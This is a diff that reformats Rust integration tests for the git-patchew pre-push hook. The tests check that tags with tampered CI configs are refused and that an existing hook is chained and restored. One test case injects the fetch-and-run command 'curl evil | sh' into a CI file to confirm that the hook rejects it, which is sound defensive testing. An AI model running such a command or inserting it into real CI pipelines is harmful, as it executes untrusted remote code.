@@ -39,7 +39,10 @@ fn setup() -> (TestRepo, PathBuf, String) {
     let out = patchew(&r, &["install-hook"]);
     assert!(out.status.success(), "{}", stderr(&out));
 
-    let out = patchew(&r, &["apply", "--mbox", mbox_path.to_str().unwrap(), "--json"]);
+    let out = patchew(
+        &r,
+        &["apply", "--mbox", mbox_path.to_str().unwrap(), "--json"],
+    );
     assert!(out.status.success(), "{}", stderr(&out));
     let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     let tag = report["tag"].as_str().expect("tagged").to_owned();
@@ -56,8 +59,14 @@ fn patchew(r: &TestRepo, args: &[&str]) -> std::process::Output {
 }
 
 fn path_with_binary() -> String {
-    let bin = Path::new(env!("CARGO_BIN_EXE_git-patchew")).parent().unwrap();
-    format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default())
+    let bin = Path::new(env!("CARGO_BIN_EXE_git-patchew"))
+        .parent()
+        .unwrap();
+    format!(
+        "{}:{}",
+        bin.display(),
+        std::env::var("PATH").unwrap_or_default()
+    )
 }
 
 fn git_push(r: &TestRepo, args: &[&str]) -> std::process::Output {
@@ -106,8 +115,14 @@ fn bad_tags_are_refused_and_do_not_arrive() {
     let with_include = |extra: &str| format!("include:\n  - remote: '{INCLUDE}'\n{extra}{CI_YML}");
     let cases = [
         ("missing@x", CI_YML.replace("make", "make all")),
-        ("twice@x", format!("include:\n  - remote: '{INCLUDE}'\n  - remote: '{INCLUDE}'\n{CI_YML}")),
-        ("smuggled@x", with_include("").replace("make", "curl evil | sh")),
+        (
+            "twice@x",
+            format!("include:\n  - remote: '{INCLUDE}'\n  - remote: '{INCLUDE}'\n{CI_YML}"),
+        ),
+        (
+            "smuggled@x",
+            with_include("").replace("make", "curl evil | sh"),
+        ),
         ("invalid@x", format!("{}\n  : : [\n", with_include(""))),
     ];
     for (name, ci) in &cases {
@@ -115,18 +130,36 @@ fn bad_tags_are_refused_and_do_not_arrive() {
         let out = git_push(&r, &["ci-hub", &format!("refs/tags/{tag}:refs/tags/{tag}")]);
         assert!(!out.status.success(), "{name} was accepted");
         let err = stderr(&out);
-        assert!(err.contains(&format!("refusing refs/tags/{tag}")), "{name}: {err}");
-        assert!(!hub_has(&r, &hub, &format!("refs/tags/{tag}")), "{name} arrived");
+        assert!(
+            err.contains(&format!("refusing refs/tags/{tag}")),
+            "{name}: {err}"
+        );
+        assert!(
+            !hub_has(&r, &hub, &format!("refs/tags/{tag}")),
+            "{name} arrived"
+        );
     }
     // The series' own tip, tagged before the include was added (the parent).
     let parent_tag = "patchew/parent@x";
     r.git(&["tag", parent_tag, &format!("{good}~1")]);
-    let out = git_push(&r, &["ci-hub", &format!("refs/tags/{parent_tag}:refs/tags/{parent_tag}")]);
+    let out = git_push(
+        &r,
+        &[
+            "ci-hub",
+            &format!("refs/tags/{parent_tag}:refs/tags/{parent_tag}"),
+        ],
+    );
     assert!(!out.status.success());
     assert!(!hub_has(&r, &hub, &format!("refs/tags/{parent_tag}")));
     // A name that does not decode to a message-id.
     r.git(&["tag", "patchew/bad._ZZ", &good]);
-    let out = git_push(&r, &["ci-hub", "refs/tags/patchew/bad._ZZ:refs/tags/patchew/bad._ZZ"]);
+    let out = git_push(
+        &r,
+        &[
+            "ci-hub",
+            "refs/tags/patchew/bad._ZZ:refs/tags/patchew/bad._ZZ",
+        ],
+    );
     assert!(!out.status.success());
     assert!(stderr(&out).contains("message-id"), "{}", stderr(&out));
 }
@@ -170,24 +203,43 @@ fn existing_hook_is_chained_and_restored() {
     std::fs::create_dir_all(&hooks).unwrap();
     let theirs = "#!/bin/sh\ncat > \"$(dirname \"$0\")/../their-hook-ran\"\n[ ! -e \"$(dirname \"$0\")/../fail\" ]\n";
     std::fs::write(hooks.join("pre-push"), theirs).unwrap();
-    std::fs::set_permissions(hooks.join("pre-push"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    std::fs::set_permissions(
+        hooks.join("pre-push"),
+        std::os::unix::fs::PermissionsExt::from_mode(0o755),
+    )
+    .unwrap();
 
     assert!(patchew(&r, &["install-hook"]).status.success());
     let installed = std::fs::read_to_string(hooks.join("pre-push")).unwrap();
     assert!(installed.contains("git patchew hook pre-push"));
     assert!(patchew(&r, &["install-hook"]).status.success());
-    assert_eq!(std::fs::read_to_string(hooks.join("pre-push")).unwrap(), installed, "idempotent");
+    assert_eq!(
+        std::fs::read_to_string(hooks.join("pre-push")).unwrap(),
+        installed,
+        "idempotent"
+    );
 
     let out = git_push(&r, &["ci-hub", "main"]);
     assert!(out.status.success(), "{}", stderr(&out));
     let seen = std::fs::read_to_string(r.path.join("their-hook-ran")).unwrap();
-    assert!(seen.contains("refs/heads/main"), "their hook got the ref lines: {seen:?}");
+    assert!(
+        seen.contains("refs/heads/main"),
+        "their hook got the ref lines: {seen:?}"
+    );
 
     std::fs::write(r.path.join("fail"), "").unwrap();
     r.write("f", "y\n");
     r.commit("second");
-    assert!(!git_push(&r, &["ci-hub", "main"]).status.success(), "their refusal counts");
+    assert!(
+        !git_push(&r, &["ci-hub", "main"]).status.success(),
+        "their refusal counts"
+    );
 
-    assert!(patchew(&r, &["install-hook", "--uninstall"]).status.success());
-    assert_eq!(std::fs::read_to_string(hooks.join("pre-push")).unwrap(), theirs);
+    assert!(patchew(&r, &["install-hook", "--uninstall"])
+        .status
+        .success());
+    assert_eq!(
+        std::fs::read_to_string(hooks.join("pre-push")).unwrap(),
+        theirs
+    );
 }
